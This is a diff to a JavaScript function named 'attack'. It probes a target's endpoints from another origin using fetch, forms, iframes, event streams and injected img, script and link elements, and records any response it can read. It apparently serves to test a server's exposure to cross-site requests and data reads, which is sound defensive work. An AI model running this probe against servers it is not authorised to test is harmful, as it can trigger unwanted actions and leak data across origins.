@@ -3,10 +3,11 @@
 async function attack(target, endpoints) {
     const read = [];
     let tries = 0;
+    let frames = 0;
     const got = (how, endpoint, what) => read.push(`${how} ${endpoint.method} ${endpoint.path}: ${what}`);
 
     // What is saved as a file, or does not end, tells nothing: only whoever is let in comes to that.
-    const giveUpLater = end => setTimeout(end, 3000);
+    const giveUpLater = end => setTimeout(end, 1000);
 
     // Streams do not end: the first bytes are enough.
     async function beginning(answer) {
@@ -49,7 +50,7 @@ async function attack(target, endpoints) {
     }
 
     async function byFrame(endpoint, start) {
-        const name = 'frame' + tries;
+        const name = 'frame' + ++frames;
         const frame = document.createElement('iframe');
         frame.name = name;
         document.body.append(frame);
@@ -60,8 +61,8 @@ async function attack(target, endpoints) {
             start(frame, name);
         });
         try {
-            const text = frame.contentDocument.body.innerText;
-            got('frame', endpoint, text);
+            // what has not come in time is still an empty frame
+            if (frame.contentWindow.location.href !== 'about:blank') got('frame', endpoint, frame.contentDocument.body.innerText);
         } catch {
             // another origin
         }
@@ -96,21 +97,26 @@ async function attack(target, endpoints) {
         });
     }
 
-    for (const endpoint of endpoints) {
+    async function everyWay(endpoint) {
+        const there = target + endpoint.path;
         for (const mode of ['cors', 'no-cors']) {
             for (const type of endpoint.body ? ['text/plain', 'application/json', 'application/x-www-form-urlencoded'] : ['']) {
                 await byFetch(endpoint, mode, type);
             }
         }
-        await byForm(endpoint, 'POST', 'text/plain');
-        await byForm(endpoint, 'POST', 'application/x-www-form-urlencoded');
+        if (endpoint.body) {
+            await byForm(endpoint, 'POST', 'text/plain');
+            await byForm(endpoint, 'POST', 'application/x-www-form-urlencoded');
+            return;
+        }
         await byForm(endpoint, 'GET', 'application/x-www-form-urlencoded');
-        await byFrame(endpoint, frame => { frame.src = target + endpoint.path; });
+        await byFrame(endpoint, frame => { frame.src = there; });
         await byEvents(endpoint);
-        const there = target + endpoint.path;
         await byElement('img', endpoint, {src: there});
         await byElement('script', endpoint, {src: there});
         await byElement('link', endpoint, {rel: 'stylesheet', href: there});
     }
+
+    await Promise.all(endpoints.map(everyWay));
     return {tries, read};
 }
